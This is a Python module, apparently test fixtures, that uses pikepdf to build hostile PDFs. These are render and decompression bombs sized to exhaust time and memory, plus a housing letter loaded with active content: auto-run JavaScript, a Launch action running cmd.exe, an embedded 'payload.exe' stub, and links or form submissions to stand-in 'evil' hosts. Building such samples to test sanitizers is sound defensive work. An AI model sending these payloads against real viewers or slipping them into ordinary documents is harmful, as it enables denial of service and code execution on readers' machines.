"""Hostile PDFs, made here rather than kept as files: bombs that cost a renderer time and memory,
and letters that carry active content (scripts, launch actions, embedded files, rich media).

Each bomb is under 200 KB. Unbounded, PDFium took about 17 s and 1.6 GB for many_operators(),
and did not finish nested_forms() or triangle_mesh() in a minute; huge_image() declares 400
million pixels.
"""

import io
import struct
import zlib
from collections.abc import Callable

import pikepdf

A4 = [0, 0, 595, 842]


def saved(pdf: pikepdf.Pdf) -> bytes:
    out = io.BytesIO()
    pdf.save(out, compress_streams=False)  # the streams are compressed already, or tiny
    return out.getvalue()


def one_page(pdf: pikepdf.Pdf, content: bytes, resources: pikepdf.Dictionary) -> bytes:
    """Return pdf with one A4 page of content drawn with resources."""
    page = pikepdf.Dictionary(
        Type=pikepdf.Name.Page,
        MediaBox=A4,
        Contents=pdf.make_stream(content),
        Resources=resources,
    )
    pdf.pages.append(pikepdf.Page(page))
    return saved(pdf)


def huge_image(side: int = 20_000) -> bytes:
    """A page showing a side x side grey image of zeros, Flate inside Flate: about 1.5 KB."""
    pdf = pikepdf.new()
    image = pikepdf.Stream(pdf, zlib.compress(zlib.compress(bytes(side * side), 9), 9))
    image.Type, image.Subtype = pikepdf.Name.XObject, pikepdf.Name.Image
    image.Width = image.Height = side
    image.ColorSpace, image.BitsPerComponent = pikepdf.Name.DeviceGray, 8
    image.Filter = pikepdf.Array([pikepdf.Name.FlateDecode, pikepdf.Name.FlateDecode])
    resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im=image))
    return one_page(pdf, b"q 595 0 0 842 0 0 cm /Im Do Q", resources)


def triangle_mesh(count: int = 2_000_000) -> bytes:
    """A page filled by a shading of count page-sized triangles: about 90 KB, 90 MB to draw,
    and minutes of CPU (the bomb that needs time, not memory)."""
    pdf = pikepdf.new()
    corners = ((0, 0, 0), (65535, 0, 128), (0, 65535, 255))  # x, y (16 bits), grey (8 bits)
    triangle = b"".join(struct.pack(">BHHB", 0, x, y, grey) for x, y, grey in corners)
    shading = pikepdf.Stream(pdf, zlib.compress(triangle * count, 9))
    shading.ShadingType, shading.ColorSpace = 4, pikepdf.Name.DeviceGray
    shading.BitsPerCoordinate, shading.BitsPerComponent, shading.BitsPerFlag = 16, 8, 8
    shading.Decode, shading.Filter = [0, 595, 0, 842, 0, 1], pikepdf.Name.FlateDecode
    return one_page(pdf, b"/Sh sh", pikepdf.Dictionary(Shading=pikepdf.Dictionary(Sh=shading)))


def many_operators(count: int = 3_000_000) -> bytes:
    """A page whose content is count tiny filled rectangles: about 180 KB compressed."""
    pdf = pikepdf.new()
    ops = pikepdf.Stream(pdf, zlib.compress(b"0.5 g 0 0 0.01 0.01 re f\n" * count, 9))
    ops.Filter = pikepdf.Name.FlateDecode
    page = pikepdf.Dictionary(
        Type=pikepdf.Name.Page, MediaBox=A4, Contents=ops, Resources=pikepdf.Dictionary()
    )
    pdf.pages.append(pikepdf.Page(page))
    return saved(pdf)


def nested_forms(depth: int = 30, fan: int = 2) -> bytes:
    """A page drawing a form that draws the next one fan times, depth deep: fan^depth draws."""
    pdf = pikepdf.new()
    form = pikepdf.Stream(pdf, b"0 0 1 1 re f")
    for level in range(depth + 1):
        form.Type, form.Subtype, form.BBox = pikepdf.Name.XObject, pikepdf.Name.Form, A4
        if level == depth:
            break
        outer = pikepdf.Stream(pdf, b"/F Do " * fan)
        outer.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(F=form))
        form = outer
    page = pikepdf.Dictionary(
        Type=pikepdf.Name.Page,
        MediaBox=A4,
        Contents=pdf.make_stream(b"/F Do"),
        Resources=pikepdf.Dictionary(XObject=pikepdf.Dictionary(F=form)),
    )
    pdf.pages.append(pikepdf.Page(page))
    return saved(pdf)


def object_stream(size: int = 400 * 1024 * 1024) -> bytes:
    """A PDF whose page lives in an object stream that inflates to size bytes (Flate inside
    Flate, about 2 KB): qpdf decodes the whole stream to read the one object in it, before any
    page is drawn. Unbounded, 300 MB of it took qpdf 6.75 s and 550 MB."""
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >> >>"
    first = 32  # where the objects start, after the header "3 <offset>"
    head = (b"3 %d" % (size - first - len(page))).ljust(first)  # object 3, at the very end
    inner = zlib.compressobj(9)
    chunk = b" " * (1024 * 1024)  # never the whole stream in memory: a test measures it
    parts = [inner.compress(head)]
    left = size - len(head) - len(page)
    while left > 0:
        parts.append(inner.compress(chunk[: min(left, len(chunk))]))
        left -= len(chunk)
    parts.append(inner.compress(page) + inner.flush())
    stream = zlib.compress(b"".join(parts), 9)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        None,  # object 3 is in the object stream
        b"<< /Type /ObjStm /N 1 /First %d /Filter [/FlateDecode /FlateDecode] /Length %d >>\n"
        b"stream\n%s\nendstream" % (first, len(stream), stream),
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    for number, body in enumerate(objects, 1):
        if body is None:
            rows.append(struct.pack(">BIH", 2, 4, 0))  # in object stream 4, at index 0
            continue
        rows.append(struct.pack(">BIH", 1, len(out), 0))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    at = len(out)
    rows.append(struct.pack(">BIH", 1, at, 0))  # the cross-reference stream itself
    table = b"".join(rows)
    out += (
        b"5 0 obj\n<< /Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R /Length %d >>\n"
        b"stream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (len(table), table, at)
    )
    return bytes(out)


BOMBS: dict[str, Callable[[], bytes]] = {
    "an image of 400 million pixels": huge_image,
    "three million drawing operators": many_operators,
    "forms nested 30 deep, each drawn twice": nested_forms,
    "a shading of two million triangles": triangle_mesh,
    "an object stream of 400 MB": object_stream,
}


# Active content


def edited(edit: Callable[[pikepdf.Pdf], None], pages: int = 2) -> bytes:
    """Return a plain letter of pages A4 pages, a line of text on each, after edit(pdf)."""
    pdf = pikepdf.new()
    font = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica
        )
    )
    for number in range(1, pages + 1):
        text = f"BT /F1 18 Tf 150 420 Td (Housing file statement - page {number}) Tj ET"
        page = pikepdf.Dictionary(
            Type=pikepdf.Name.Page,
            MediaBox=A4,
            Contents=pdf.make_stream(text.encode()),
            Resources=pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font)),
        )
        pdf.pages.append(pikepdf.Page(page))
    edit(pdf)
    return saved(pdf)


def javascript(pdf: pikepdf.Pdf, script: str = "app.alert('run')") -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String(script))


def launch(pdf: pikepdf.Pdf) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(
        S=pikepdf.Name.Launch,
        F=pikepdf.String("cmd.exe"),
        Win=pikepdf.Dictionary(F=pikepdf.String("cmd.exe"), P=pikepdf.String("/c calc")),
    )


def embedded_file(pdf: pikepdf.Pdf, name: str = "payload.exe") -> pikepdf.Dictionary:
    """A file specification carrying a file: what /EmbeddedFiles and attachments hold."""
    stream = pikepdf.Stream(pdf, b"MZ\x90\x00 an executable")
    stream.Type = pikepdf.Name.EmbeddedFile
    return pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Filespec,
            F=pikepdf.String(name),
            UF=pikepdf.String(name),
            EF=pikepdf.Dictionary(F=stream),
        )
    )


def annotation(pdf: pikepdf.Pdf, page: int, **entries: object) -> pikepdf.Dictionary:
    """Add an annotation with entries to page, and return it."""
    annot = pdf.make_indirect(
        pikepdf.Dictionary(Type=pikepdf.Name.Annot, Rect=[50, 50, 150, 80], **entries)
    )
    target = pdf.pages[page].obj
    if pikepdf.Name.Annots not in target:
        target.Annots = pikepdf.Array()
    target.Annots.append(annot)
    return annot


def everything_active(pdf: pikepdf.Pdf) -> None:
    """Put every kind of active content we know of into pdf, in the places viewers look."""
    root = pdf.Root
    # The document opens by running a script that chains to a launch.
    opening = javascript(pdf)
    opening.Next = pikepdf.Array([launch(pdf), pdf.make_indirect(javascript(pdf, "next()"))])
    root.OpenAction = pdf.make_indirect(opening)
    root.AA = pikepdf.Dictionary(WC=javascript(pdf, "onclose()"), WP=javascript(pdf, "print()"))
    root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(
            Names=pikepdf.Array([pikepdf.String("init"), pdf.make_indirect(javascript(pdf))])
        ),
        EmbeddedFiles=pikepdf.Dictionary(
            Names=pikepdf.Array([pikepdf.String("payload.exe"), embedded_file(pdf)])
        ),
    )
    root.AcroForm = pikepdf.Dictionary(
        Fields=pikepdf.Array(),
        XFA=pdf.make_stream(b"<xdp:xdp><script>xfa.host.messageBox('x')</script></xdp:xdp>"),
        NeedsRendering=True,
    )
    root.NeedsRendering = True
    root.AF = pikepdf.Array([embedded_file(pdf, "associated.bin")])
    root.Collection = pikepdf.Dictionary(Type=pikepdf.Name.Collection)
    # Pages: open and close actions; links that run things; attachments, media, a form field.
    for page in pdf.pages:
        page.obj.AA = pikepdf.Dictionary(O=javascript(pdf, "onopen()"), C=launch(pdf))
    annotation(pdf, 0, Subtype=pikepdf.Name.Link, A=launch(pdf))
    annotation(pdf, 0, Subtype=pikepdf.Name.Link, A=pdf.make_indirect(javascript(pdf)))
    annotation(
        pdf, 0, Subtype=pikepdf.Name.Link,
        A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("file://evil/share/x")),
    )  # fmt: skip
    annotation(
        pdf, 0, Subtype=pikepdf.Name.Link,
        A=pikepdf.Dictionary(S=pikepdf.Name.GoToR, F=pikepdf.String("\\\\evil\\share\\x.pdf")),
    )  # fmt: skip
    annotation(
        pdf, 0, Subtype=pikepdf.Name.Link,
        A=pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://evil/x")),
    )  # fmt: skip
    annotation(
        pdf, 0, Subtype=pikepdf.Name.Link,
        A=pikepdf.Dictionary(S=pikepdf.Name.Named, N=pikepdf.Name("/SaveAs")),
    )  # fmt: skip
    annotation(pdf, 0, Subtype=pikepdf.Name.FileAttachment, FS=embedded_file(pdf))
    annotation(
        pdf, 1, Subtype=pikepdf.Name.RichMedia,
        RichMediaContent=pikepdf.Dictionary(Assets=pikepdf.Dictionary()),
    )  # fmt: skip
    annotation(pdf, 1, Subtype=pikepdf.Name.Screen, A=pikepdf.Dictionary(S=pikepdf.Name.Rendition))
    annotation(pdf, 1, Subtype=pikepdf.Name("/3D"))
    field = annotation(
        pdf, 1, Subtype=pikepdf.Name.Widget, FT=pikepdf.Name.Tx, T=pikepdf.String("name"),
        AA=pikepdf.Dictionary(K=javascript(pdf, "keystroke()")),
    )  # fmt: skip
    root.AcroForm.Fields.append(field)
    # An outline item that launches.
    item = pdf.make_indirect(pikepdf.Dictionary(Title=pikepdf.String("Open"), A=launch(pdf)))
    root.Outlines = pikepdf.Dictionary(Type=pikepdf.Name.Outlines, First=item, Last=item, Count=1)
    item.Parent = root.Outlines


def harmless_links(pdf: pikepdf.Pdf) -> None:
    """A web link, a mail link, and a link to page 2: what a genuine letter may have."""
    for uri in ("https://housing.example.gov/faq", "mailto:help@housing.example.gov"):
        annotation(
            pdf, 0, Subtype=pikepdf.Name.Link,
            A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String(uri)),
        )  # fmt: skip
    destination = pikepdf.Array([pdf.pages[1].obj, pikepdf.Name.Fit])
    annotation(
        pdf, 0, Subtype=pikepdf.Name.Link,
        A=pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=destination),
    )  # fmt: skip
